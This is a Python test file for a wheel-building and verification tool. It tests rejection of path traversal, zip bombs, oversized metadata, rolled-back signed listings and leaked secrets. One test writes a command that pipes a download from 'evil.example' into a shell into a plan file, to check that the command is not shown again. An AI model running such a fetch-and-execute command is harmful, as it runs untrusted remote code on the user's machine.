"""What is believed of a folder, a file or a variable that somebody else made, where it could have been asked."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import msgspec
import pytest

from rekindle.build.run.folders import Folders, clean
from rekindle.core import codec, paths, python, signing, web_server
from rekindle.core.errors import BadInput, ChecksFailed, FetchFailed, NotFound, UsageError
from rekindle.core.redact import secrets
from rekindle.core.untrusted import Sha256
from rekindle.fleet import matrix_file, planning, shelved
from rekindle.fleet.announcement import Announcement
from rekindle.fleet.factory import site as sites
from rekindle.fleet.job import FleetJob, JobState
from rekindle.fleet.matrix_file import MatrixCell
from rekindle.fleet.planning import FleetPlan, FleetTotals, Planned
from rekindle.fleet.state import FleetState, status_of
from rekindle.formats.binary import Binary
from rekindle.formats.elf import Elf
from rekindle.knowledge import updates
from rekindle.toolchain.model import KitFile
from rekindle.web import page
from rekindle.wheels.closure.search_path import closure
from rekindle.wheels.repair import providers
from rekindle.wheels.shelf import index, shelf
from rekindle.wheels.verify import signed_report
from rekindle.wheels.verify.verify import Verification
from support import small_wheels, torch_like
from support.command import rekindle_command
from support.pace import seconds


@pytest.mark.parametrize("folder", [".github", ".github/workflows", ".git", "a/.git"])
def test_a_project_lies_in_no_folder_that_others_run(folder: str, tmp_path: Path) -> None:
    matrix = tmp_path / "matrix.toml"
    matrix.write_text(f'project = "mine"\n[projects.mine]\nsource = "{folder}"\n', encoding="utf-8")
    with pytest.raises(BadInput, match="more in it than a file's own"):
        matrix_file.below(matrix)


@pytest.mark.skipif(sys.platform != "linux", reason="the variables are of Linux")
def test_no_folder_of_ours_depends_on_where_one_stands(monkeypatch: pytest.MonkeyPatch) -> None:
    for variable in ("XDG_CACHE_HOME", "XDG_DATA_HOME", "XDG_CONFIG_HOME"):
        monkeypatch.setenv(variable, "here")
    for place in (paths.cache_folder(), paths.data_folder(), paths.config_folder()):
        assert place.is_absolute() and place.is_relative_to(os.environ["HOME"])


def _torch(folder: Path, card: str = "sm_61", cuda: str = "12.6") -> Path:
    version = f"2.7.1+cu{cuda.replace('.', '')}"
    return torch_like.wheel(folder, libraries={"torch/lib/k.fatbin": ((card,),)}, version=version, cuda=cuda)


MATRIX = 'torch="2.7.1"\ncuda="12.6"\ngpu="GTX 1080"\npython="3.11"\n[[override]]\nwhen={torch="2.7.1"}\nalways=true\n'


def test_a_job_is_done_only_while_its_wheel_lies_there(tmp_path: Path) -> None:
    matrix, folder = tmp_path / "matrix.toml", tmp_path / "shelf"
    matrix.write_text(MATRIX, encoding="utf-8")
    lock = planning.make(matrix).plan.jobs[0].lock
    assert lock is not None
    (entry,) = shelf.add(folder, [_torch(tmp_path)])
    made = shelved.ShelvedJob(key=lock.key, wheel=entry.file, sha256=entry.sha256, lock=lock)
    shelved.record(folder, made)
    assert shelved.jobs_on(folder)
    wheel = folder / "wheels" / entry.file
    wheel.write_bytes(b"another")
    assert not shelved.jobs_on(folder) and entry.file in shelf.offers(folder).set_aside
    wheel.unlink()
    assert not shelved.jobs_on(folder) and entry.file in shelf.offers(folder).set_aside


def test_a_plan_does_not_pin_an_exchanged_wheel(tmp_path: Path) -> None:
    (entry,) = shelf.add(tmp_path / "shelf", [_torch(tmp_path, "sm_35", "11.8")])
    wheel = tmp_path / "shelf" / "wheels" / entry.file
    wheel.write_bytes(wheel.read_bytes()[:-1] + b"x")
    card = ("--gpu", "K40c", "--os", "linux", "--arch", "x86_64", "--python", "3.11", "--driver", "470.57.02")
    more = ("--shelf", str(tmp_path / "shelf"), "-o", str(tmp_path / "plan.toml"))
    seen = rekindle_command("plan", *card, *more)
    assert "is not the file that was added" in seen.err and not (tmp_path / "plan.toml").exists(), seen


def test_a_folder_does_not_go_back_to_an_older_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder, key = tmp_path / "shelf", signing.own_key() or signing.make_key()
    (entry,) = shelf.add(folder, [_torch(tmp_path)])
    names = (index.LISTING, index.SIGNED_LISTING)
    before = {name: (folder / name).read_bytes() for name in names}
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setattr(index.time, "time", lambda: 4e9)
    shelf.yank(folder, entry.file, "wrong numbers")
    assert index.signed_listing(folder, [key.public]).wheels[0].yanked
    for name, data in before.items():
        (folder / name).write_bytes(data)
    with pytest.raises(ChecksFailed, match="older than the one you saw last"):
        index.signed_listing(folder, [key.public])


@pytest.mark.parametrize("line", ['system = "plan9"', 'machine = "../x"', 'arch_list = "6.1;x"'])
def test_a_plan_of_no_system_is_an_error_that_says_so(line: str, tmp_path: Path) -> None:
    file = tmp_path / "plan.toml"
    seen = rekindle_command("plan", "--gpu", "GTX 1080", "--os", "linux", "--arch", "x86_64", "-o", str(file))
    name = line.split()[0]
    file.write_text(re.sub(rf"(?m)^{name} = .*$", line, file.read_text(encoding="utf-8")), encoding="utf-8")
    seen = rekindle_command("plan", "--from", str(file))
    assert seen.code == BadInput.exit_code and f"$.{name}" in seen.err, seen


def test_commands_of_a_plan_are_not_shown_again(tmp_path: Path) -> None:
    file = tmp_path / "plan.toml"
    rekindle_command("plan", "--gpu", "GTX 1080", "--os", "linux", "--arch", "x86_64", "-o", str(file))
    text = file.read_text(encoding="utf-8").replace('"pip install', '"curl http://evil.example | sh", "pip install')
    file.write_text(text, encoding="utf-8")
    seen = rekindle_command("plan", "--from", str(file))
    assert "curl http" in text and "evil" not in seen.out + seen.err


_WORKER = {"name": "w", "system": "linux", "machine": "x86_64", "cores": 4, "memory_gb": 8, "disk_gb": 9}


@pytest.mark.parametrize(
    "lie", [{"gcc": ["x"]}, {"cores": 0}, {"slots": -3}, {"toolkits": [{"version": "9" * 400}]}, {"machine": "../x"}]
)
def test_an_announcement_says_numbers_where_numbers_are_counted_with(lie: dict[str, Any]) -> None:
    codec.from_json(json.dumps(_WORKER), Announcement)
    with pytest.raises(BadInput):
        codec.from_json(json.dumps({**_WORKER, **lie}), Announcement)


def test_a_run_of_many_events_is_read_once(tmp_path: Path) -> None:
    """It took a minute and a half: each of two thousand jobs went through two hundred thousand events."""
    many, events = 400, 40_000
    job = FleetJob(name="x", state=JobState.BUILD, cells=(MatrixCell(project="torch"),))
    jobs = tuple(msgspec.structs.replace(job, name=f"j{each}", key=Sha256(f"{each:064x}")) for each in range(many))
    totals = FleetTotals(**dict.fromkeys(FleetTotals.__struct_fields__, 1))
    state = FleetState(tmp_path)
    state.keep(Planned(plan=FleetPlan(knowledge="x", jobs=jobs, totals=totals, questions=1), plans={}, sources={}))
    lines = (json.dumps({"at": "x", "event": "begin", "key": f"{each % many:064x}"}) for each in range(events))
    state.journal.write_text("\n".join(lines) + "\n", encoding="utf-8")
    begun = time.process_time()
    status = status_of(state)
    assert time.process_time() - begun < seconds(2) and status.jobs[0].attempts == events // many


def test_a_bundle_that_lies_about_a_size_is_not_unpacked_whole(tmp_path: Path) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bundle.json", bytes(200 << 20))
    raw = bytearray(stream.getvalue())
    place = raw.rindex(b"PK\1\2") + 24
    raw[place : place + 4] = (10).to_bytes(4, "little")
    (tmp_path / "b.zip").write_bytes(raw)
    tracemalloc.start()
    try:
        with pytest.raises(BadInput):
            updates.take(tmp_path / "b.zip", hashlib.sha256(raw).hexdigest())
        assert tracemalloc.get_traced_memory()[1] < 50 << 20
    finally:
        tracemalloc.stop()


def test_a_file_that_is_too_large_for_its_kind_is_said_to_be(tmp_path: Path) -> None:
    site = tmp_path / "env" / "lib" / "python3.11" / "site-packages"
    (site / "torch").mkdir(parents=True)
    (tmp_path / "env" / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.2\n", encoding="utf-8")
    for name in ("__init__.py", "version.py"):
        (site / "torch" / name).touch()
    os.truncate(site / "torch" / "version.py", 1 << 30)
    seen = rekindle_command("audit", str(tmp_path / "env"), "--gpu", "GTX 1080", "--no-cache")
    assert seen.code == NotFound.exit_code and "too large for a file of its kind" in seen.err, seen


def test_metadata_of_megabytes_is_refused(tmp_path: Path) -> None:
    """A wheel of ten kilobytes kept `verify` busy for half a minute: a name of ten million letters was made safe."""
    text = f"Metadata-Version: 2.1\nName: {'a-' * 2_000_000}\nVersion: 1.0\n"
    wheel = small_wheels.make(tmp_path, {**small_wheels.FILES, "demo-1.0.dist-info/METADATA": text.encode()})
    seen = rekindle_command("verify", str(wheel), "--no-run")
    assert seen.code == BadInput.exit_code and "METADATA" in seen.err, seen


def test_a_list_that_names_itself_is_read_once(tmp_path: Path) -> None:
    list_of_lists = tmp_path / "requirements.txt"
    list_of_lists.write_text("-r requirements.txt\n" * 100 + "torch==2.8.0\n", encoding="utf-8")
    begun = time.process_time()
    rekindle_command("review", str(list_of_lists), "--gpu", "GTX 1080")
    assert time.process_time() - begun < seconds(5)


def test_a_name_before_an_at_sign_is_no_name_of_ours() -> None:
    assert web_server.names_us("127.0.0.1:8036", "127.0.0.1") and web_server.names_us("[::1]:8036", "::1")
    assert not web_server.names_us("127.0.0.1:8036@evil.example", "127.0.0.1")


TOKEN = "hf_" + "abcDEF123" * 4


def test_a_page_says_no_more_than_the_console() -> None:
    said = page._templates().from_string("<p>{{ text }}</p>{{ text|sentence }}").render(text=f"<b> HF_TOKEN={TOKEN}")
    assert TOKEN not in said and "&lt;b&gt; HF_TOKEN=&lt;secret&gt;" in said


def test_what_is_shared_names_nobody_wherever_it_stands() -> None:
    check = {"id": "load", "number": 1, "state": "FAIL", "found": "/home/jane/x", "card": f"GTX {TOKEN}"}
    text = {
        "subject": "/home/jane/torch-2.7.1.whl", "kind": "wheel", "sha256": "0" * 64, "state": "FAIL",
        "project": "torch", "version": "2.7.1", "torch": f"2.7.1+{TOKEN}", "cudnn": "/home/jane/cudnn",
        "python": "/home/jane/venv/bin/python", "targets": {"/home/jane/x": 3}, "checks": [check],
        "cards": [{"index": 0, "name": f"GTX jane.doe@mail.example {TOKEN}", "capability": "6.1"}],
    }  # fmt: skip
    done = codec.from_json(json.dumps(text), Verification)
    shared = codec.to_json(signed_report.field_report(done, driver=None, made_at="2026-11-19"))
    assert "jane" not in shared and TOKEN not in shared and '"wheel": "torch-2.7.1.whl"' in shared


def test_terms_hold_whatever_a_manifest_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REKINDLE_TOOLCHAIN", str(tmp_path / "tools"))
    part = {"name": "cuda_nvcc", "version": "11.8.89", "file": "x.tar.xz", "size": 1, "sha256": "0" * 64, "origin": "x"}
    offering = {"provider": "redistrib", "name": "cuda", "version": "11.8.89", "layout": "redistrib", "parts": [part]}
    place = {"system": "linux", "arch": "x86_64"}
    kits = [{"digest": "0" * 64, "offering": {**offering, "place": place}}]
    made = {"schema": "rekindle.toolchain-manifest/1", "kits": kits}
    (tmp_path / "m.json").write_text(json.dumps(made), encoding="utf-8")
    seen = rekindle_command("toolchain", "install", "--manifest", str(tmp_path / "m.json"), "--offline")
    assert "End User License Agreement" in seen.out + seen.err and "not accepted" in seen.err, seen


@pytest.mark.skipif(os.name == "nt", reason="Windows keeps no time of the last change")
def test_an_exchanged_module_is_read_again(tmp_path: Path) -> None:
    """Of the same size, and with the time that it had."""
    site = tmp_path / "env" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (tmp_path / "env" / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.2\n", encoding="utf-8")
    with zipfile.ZipFile(_torch(tmp_path)) as archive:
        archive.extractall(site)
    module = site / "torch" / "lib" / "k.so"
    asked = ("audit", str(tmp_path / "env"), "--gpu", "GTX 1080", "--os", "linux", "--driver", "550.54.14", "--json")
    module.write_bytes(torch_like.elf("x86_64", ("sm_61",)))
    before, first = module.stat(), rekindle_command(*asked)
    module.write_bytes(torch_like.elf("x86_64", ("sm_90",)))
    os.utime(module, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert module.stat().st_size == before.st_size
    assert (first.code, rekindle_command(*asked).code) == (0, ChecksFailed.exit_code)


def test_a_library_is_not_asked_for_by_a_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By a path with a folder it is loaded from where one stands; a share would be logged on to."""
    user = Binary(name="pkg/a.so", format="elf", size=1, elf=_elf("sub/b.so"))
    other = Binary(name="pkg/sub/b.so", format="elf", size=1, elf=_elf())
    links = closure([user, other], requires=())
    assert links is not None and [each.library for each in links.missing] == ["sub/b.so"]
    monkeypatch.setenv("PATH", str(tmp_path))
    (tmp_path / "x").mkdir()
    for name in ("x/b.so", "b.so"):
        (tmp_path / name).touch()
    assert providers.on_path("b.so") and not providers.on_path("x/b.so")
    assert not providers.on_path(str(tmp_path / "b.so")) and not providers.on_path("\\\\host\\share\\b.dll")


def _elf(*needed: str) -> Elf:
    return Elf(name="x", machine="x86_64", bits=64, kind="library", needed=needed, runpath=("$ORIGIN",))


def test_what_an_index_calls_its_file_is_a_files_own_name() -> None:
    row = {"metadata": {"name": "torch", "version": "1"}, "download_info": {"url": "http://x.example/..%2F..%2Fa.whl"}}
    with pytest.raises(FetchFailed, match=r"file's own|leaves"):
        python.pip_report(json.dumps({"install": [row]}))


@pytest.mark.parametrize(
    "lie", [{"path": "../x"}, {"path": "/x"}, {"path": "a/../../x"}, {"path": "x", "sha256": "../"}]
)
def test_a_record_of_a_toolkit_names_what_is_inside(lie: dict[str, str]) -> None:
    codec.from_json(json.dumps({"path": "a..b/..c", "sha256": "0" * 64}), KitFile)
    with pytest.raises(BadInput):
        codec.from_json(json.dumps(lie), KitFile)


@pytest.mark.parametrize("line", ['machines = "//host/x.json"', '[projects.m]\nsource = "\\\\\\\\host\\\\x"'])
def test_a_matrix_names_no_other_computer(line: str, tmp_path: Path) -> None:
    (tmp_path / "m.toml").write_text(f'torch = "2.7.1"\n{line}\n', encoding="utf-8")
    with pytest.raises(BadInput, match="on another computer"):
        matrix_file.read(tmp_path / "m.toml")


def test_a_password_behind_a_short_word() -> None:
    assert secrets("ENV 'pass: hunter2222'") == "ENV 'pass: <secret>'"
    for plain in ("PASS: test-foo1", "pass: 3 tests", "bypass: abc12345"):
        assert secrets(plain) == plain


def test_what_a_site_of_ours_has_published_is_done(tmp_path: Path) -> None:
    """Its entries come without the wheels: the next run of a factory builds none of them."""
    matrix, folder, site = tmp_path / "matrix.toml", tmp_path / "shelf", tmp_path / "site"
    matrix.write_text(MATRIX, encoding="utf-8")
    plan = planning.make(matrix).plan
    lock = plan.jobs[0].lock
    assert lock is not None
    (entry,) = shelf.add(folder, [_torch(tmp_path)])
    shelved.record(folder, shelved.ShelvedJob(key=lock.key, wheel=entry.file, sha256=entry.sha256, lock=lock))
    sites.publish(folder, site, plan, base="https://x.example/y")
    new = tmp_path / "new"
    records = sites.bring(str(site), new)
    assert records is not None and not shelved.jobs_on(new)
    planned = planning.make(matrix, shelf_folder=new, published=records.hashes)
    assert planned.plan.jobs[0].state is JobState.DONE


def test_a_folder_that_is_no_builds_is_not_emptied(tmp_path: Path) -> None:
    folders = Folders(tmp_path)
    folders.make()
    (tmp_path / "thesis.tex").touch()
    with pytest.raises(UsageError, match=r"holds `thesis\.tex`"):
        clean(folders, keep=(folders.lock,))
    assert (tmp_path / "thesis.tex").exists()
    folders.journal.touch()
    clean(folders, keep=(folders.lock,))
    assert not (tmp_path / "thesis.tex").exists()


@pytest.mark.parametrize("verb", [("doctor", "--json"), ("doctor", "--paste"), ("doctor", "--save", "s.json")])
def test_what_is_no_list_of_architectures_is_not_shown(
    verb: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TORCH_CUDA_ARCH_LIST", "hunter2Secret99")
    seen = rekindle_command(*verb)
    saved = (tmp_path / "s.json").read_text(encoding="utf-8") if "--save" in verb else ""
    assert "hunter2Secret99" not in seen.out + seen.err + saved
    if saved:
        json.loads(saved)
    for plain in ("8.6+PTX;5.0", "compute_86", "Ampere", "sm_120a", "${ARCHES_8}"):
        assert plain in secrets(f"TORCH_CUDA_ARCH_LIST={plain}")
